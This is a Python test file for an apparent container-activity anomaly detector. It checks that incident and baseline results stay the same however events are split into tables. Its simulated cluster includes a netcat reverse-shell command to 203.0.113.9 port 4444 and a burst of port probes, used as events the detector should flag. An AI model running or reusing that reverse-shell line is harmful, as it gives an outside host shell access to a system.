"""What was worked out for one table is used for the next, and what comes out is the same as if it had not been."""

import numpy as np
import pytest
from detection.cluster import BEGIN, SECOND, Cluster, alerts, latest
from peerwatch.columns import EventColumns

from collector.analysis import Analysis, behaviours, groups
from collector.analysis.behaviours import Vocabulary
from collector.records import BaselineEntry, Incident

END = BEGIN + 1000 * SECOND


def busy_cluster() -> Cluster:
    cluster = Cluster()
    pods = cluster.pods(4)
    cluster.normal(pods, 0, 150, every=2)
    for number in range(23):  # one position of a tool's arguments is found to vary
        for pod in pods[: 1 + number % 3]:
            cluster.exec(
                20 + number * 3, pod, "/usr/bin/psql", args=("psql", "-c", f"tables{'abcdefghijklmnopqrstuvwxyz'[number]}")
            )
    cluster.exec(100.5, pods[2], "/opt/odd")
    cluster.exec(110.5, pods[1], "/usr/bin/nc", args=("nc", "-e", "/bin/sh", "203.0.113.9", "4444"))
    for port in range(1, 15):
        cluster.connect(120 + port / 5, pods[0], "/usr/bin/dash", ("10.1.1.1", port))
    return cluster


WHOLE: EventColumns = busy_cluster().table()


def run(rows: int) -> tuple[list[Incident], list[BaselineEntry]]:
    """Return what comes out of the events in tables of so many."""
    analysis, said = Analysis(), []
    for begin in range(0, len(WHOLE), rows):
        said += analysis.observe(WHOLE.take(np.arange(begin, min(begin + rows, len(WHOLE)))))
    said += analysis.advance(END)
    return said, [entry for each in analysis.workloads() for entry in analysis.baseline(each.key)]


ONCE = run(len(WHOLE))


def test_there_is_something_to_find_and_something_that_varies() -> None:
    incidents, baseline = ONCE

    assert len(alerts(latest(incidents))) >= 2
    assert any("<any>" in entry.key for entry in baseline)


@pytest.mark.parametrize("rows", [1, 7, 97])
def test_a_vocabulary_serves_any_number_of_tables(rows: int) -> None:
    assert run(rows) == ONCE


@pytest.mark.parametrize("rows", [1, 7, 97])
def test_who_forgets_all_the_time_finds_the_same(rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(behaviours, "MOST_TEXT", -1)
    monkeypatch.setattr(behaviours, "MOST_SUBJECTS", 0)
    monkeypatch.setattr(groups, "MOST_NOTED", 0)

    assert run(rows) == ONCE


def test_no_number_is_used_twice(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(behaviours, "MOST_TEXT", -1)
    monkeypatch.setattr(behaviours, "MOST_SUBJECTS", 0)
    vocabulary = Vocabulary()

    first = behaviours.observe(WHOLE, vocabulary)
    second = behaviours.observe(WHOLE, vocabulary)

    assert not set(first.behaviour.tolist()) & set(second.behaviour.tolist())
    assert [first.behaviours[each].key for each in first.behaviour] == [
        second.behaviours[each].key for each in second.behaviour
    ]


def test_a_vocabulary_keeps_no_arguments_of_one_workload_for_another() -> None:
    vocabulary = Vocabulary()
    behaviours.observe(WHOLE, vocabulary)

    assert {each.example for each in vocabulary.behaviours.values()} == {()}
